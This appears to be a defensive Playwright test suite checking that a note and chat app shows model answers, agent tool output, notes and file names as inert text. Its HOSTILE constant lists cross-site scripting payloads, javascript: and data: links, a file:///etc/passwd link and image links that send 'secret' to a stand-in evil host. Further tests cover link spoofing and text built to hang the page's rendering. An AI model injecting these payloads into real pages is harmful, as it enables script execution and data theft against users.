"""What notes and models write is text to the page: it runs nothing, loads nothing, and leads nowhere by itself."""

import re
import socket
import time
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.agents import scripts
from tests.agents.scripted import Call, Model
from tests.agents.scripts import Cast
from tests.page import payloads, sites
from tests.page.payloads import PICTURE, Trap
from tests.page.sites import answered, say

pytestmark = pytest.mark.timeout(150)
CHAT = "/app/chat/new"
EVIL = f"{payloads.EVIL}/steal"
HOSTILE = f"""# <img src=x onerror="owned(1)">

<script>owned(1)</script>
<iframe src="{EVIL}"></iframe><style>body {{ display: none }}</style>
<svg onload="owned(1)"></svg> <a href="javascript:owned(1)">html</a>

![pixel]({EVIL}?data=secret) and ![[{EVIL}]] and [![inside]({EVIL}?in)](javascript:owned(1))

[click](javascript:owned(1)) [tab](java\tscript:owned(1))
[upper](JaVaScRiPt:owned(1)) [data](data:text/html,<script>parent.owned(1)</script>)
[vb](vbscript:x) [blob](blob:http://x/1) [file](file:///etc/passwd) [mine](//evil.example/x)
<javascript:owned(1)> <{EVIL}?angled>

[outside]({EVIL}?clicked "title\\" onclick=owned(1)") [[javascript:owned(1)|wiki]]

| <b onmouseover=owned(1)>cell</b> | `code <script>` |
|---|---|
| {{{{7*7}}}} | ${{owned(1)}} |

```html" onmouseover="owned(1)
</code></pre><script>owned(1)</script>
```

> [!x" onclick="owned(1)]
- [x] <input autofocus onfocus="owned(1)">
"""


def check(tab: Page, place: str) -> None:
    """See that a place shows the text, without anything made of it but what the page itself draws."""
    node = tab.locator(place)
    own = "svg:not(.k-icon), form[action]"
    made = node.locator(f"img, script, iframe, style, object, embed, link, meta, base, {own}")
    expect(made).to_have_count(0)
    all_links = node.locator("a")
    leads = "all => all.map(a => a.href).filter(a => !/^(https?|mailto):/.test(a))"
    assert all_links.evaluate_all(leads) == []
    open_to = "all => all.filter(a => a.host !== location.host && !a.rel.includes('noopener')).map(a => a.href)"
    assert all_links.evaluate_all(open_to) == []
    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => /^(on|style$)/.test(n))"
    assert node.locator("*").evaluate_all(handlers) == []


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\u2028\n"])
def test_an_answer_runs_and_loads_nothing(tmp_path: Path, tab: Page, ending: str) -> None:
    with sites.serving(tmp_path, Model([[HOSTILE.replace("\n", ending)]]).open) as site:
        trap = Trap(tab=tab, address=site.address)
        site.enter(tab, CHAT)
        say(tab, "Show me")
        answered(tab)
        for _ in range(2):  # as it came, and as it is kept
            expect(tab.locator(".k-answer")).to_contain_text("<script>")
            check(tab, ".k-answer")
            for dead in tab.locator(".k-answer [title*='followed']").all():
                dead.click()
            tab.locator(".k-answer").hover()
            trap.check()
            tab.reload()

        trap.check()


def test_what_agents_find_and_ask_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
    ask = Call("ask_user", {"question": PICTURE, "options": [PICTURE]})
    found = scripts.select("Evil.md", reasoning=HOSTILE)
    model = Cast({"scout": [[ask], [found]], "task": [scripts.task(HOSTILE, ("Evil.md", "line:999", PICTURE))]})
    with sites.serving(tmp_path, model.open, notes={"Evil.md": HOSTILE}) as site:
        trap = Trap(tab=tab, address=site.address)
        site.enter(tab, CHAT)
        tab.get_by_role("button", name="Scout", exact=True).click()
        say(tab, PICTURE)
        expect(tab.locator(".k-asked")).to_contain_text("<img src=x")
        check(tab, "main [role=log]")
        tab.locator(".k-asked").get_by_role("button", name=PICTURE).click()
        answered(tab)
        tab.locator("[data-finding=selection] > summary").click()
        expect(tab.locator("[data-finding=selection]")).to_contain_text("<script>")
        check(tab, "main [role=log]")

        trap.check()


def test_a_note_runs_and_loads_nothing(tmp_path: Path, tab: Page) -> None:
    look = Call("search_vault", {"query": "evil"})
    with sites.serving(tmp_path, Model([[look], ["See [[Evil]]."]]).open, notes={"Evil.md": HOSTILE}) as site:
        trap = Trap(tab=tab, address=site.address)
        site.enter(tab, CHAT)
        say(tab, "Show me")
        answered(tab)
        tab.locator("details.k-steps > summary").click()
        tab.locator("details.k-step > summary").click()
        check(tab, ".k-steps")
        tab.locator(".k-answer .k-cite").click()
        expect(tab.locator(".k-pane")).to_contain_text("<script>")
        check(tab, ".k-pane .k-prose")
        trap.check()
        tab.get_by_role("link", name="Open full size").click()
        expect(tab.locator("main .k-prose").first).to_contain_text("<script>")
        check(tab, "main .k-prose")

        trap.check()


def test_names_of_notes_and_conversations_are_text(tmp_path: Path, tab: Page) -> None:
    name = "<svg onload=owned(1)>.md"
    create = Call("create_file", {"path": "<img src=x onerror=owned(1)>.md", "content": PICTURE})
    with sites.serving(tmp_path, Model([[create], [PICTURE]]).open, notes={name: "# X\n"}) as site:
        trap = Trap(tab=tab, address=site.address)
        site.enter(tab, CHAT)
        say(tab, PICTURE)
        answered(tab)
        expect(tab.locator("[data-session]")).to_contain_text("<img src=x")
        for place in (".k-list", "main [role=log]"):
            check(tab, place)
        tab.goto(f"{site.address}/app/notes")
        expect(tab.locator(".k-list")).to_contain_text("<svg onload")

        trap.check()


def test_a_link_says_where_it_leads(tmp_path: Path, tab: Page) -> None:
    text = f"[your bank]({EVIL}) and https://example.org/a and [https://example.org](http://evil.example/)"
    with sites.serving(tmp_path, Model([[text]]).open) as site:
        site.enter(tab, CHAT)
        say(tab, "Links")
        answered(tab)

        expect(tab.locator(".k-answer a").nth(0)).to_have_text("your bank (evil.example)")
        expect(tab.locator(".k-answer a").nth(1)).to_have_text("https://example.org/a")
        expect(tab.locator(".k-answer a").nth(2)).to_have_text("https://example.org (evil.example)")


def test_the_browser_itself_refuses_what_the_page_would_not_do(tmp_path: Path, tab: Page) -> None:
    with sites.serving(tmp_path, Model([["Hi."]]).open) as site, socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        site.enter(tab)
        expect(tab).to_have_title(re.compile("·"))  # of the view, which is drawn before it
        title = tab.title()
        refused = tab.evaluate(
            """async (port) => {
              const tried = [];
              const note = (name) => () => tried.push(name);
              try { document.body.innerHTML = "<b>x</b>"; } catch { tried.push("markup"); }
              await fetch(`http://127.0.0.1:${port}/`, { mode: "no-cors" }).catch(note("fetch"));
              const picture = new Image();
              picture.src = `http://127.0.0.1:${port}/picture`;
              await picture.decode().catch(note("picture"));
              const inline = document.createElement("script");
              try {
                inline.textContent = "owned(1)";
                document.body.append(inline);
              } catch { tried.push("script"); }
              return tried;
            }""",
            elsewhere.getsockname()[1],
        )

        assert refused == ["markup", "fetch", "picture", "script"]
        with pytest.raises(BlockingIOError):
            elsewhere.accept()
        assert tab.title() == title


@pytest.mark.parametrize(
    "text",
    [
        "[" * 50_000,
        "**a " * 20_000,
        "`" * 30_000 + "a",
        "> " * 3_000 + "x",
        "- " * 5_000,
        "\n" * 50_000,
        "a|" * 20_000 + "\n|-|",
        "![[" * 20_000,
        "](" * 20_000,
        "_a" * 20_000,
        "* a\n\n" * 5_000,
        "<http://" * 10_000,
        "[a](" * 15_000,
    ],
    ids=range(13),
)
def test_no_text_holds_the_page_up(tmp_path: Path, tab: Page, text: str) -> None:
    with sites.serving(tmp_path, Model([[f"{text}\n\nThe end."]]).open) as site:
        site.enter(tab, CHAT)
        say(tab, "Much")
        answered(tab)
        start = time.monotonic()
        tab.get_by_label("Message", exact=True).fill("Still there?")

        assert time.monotonic() - start < 10
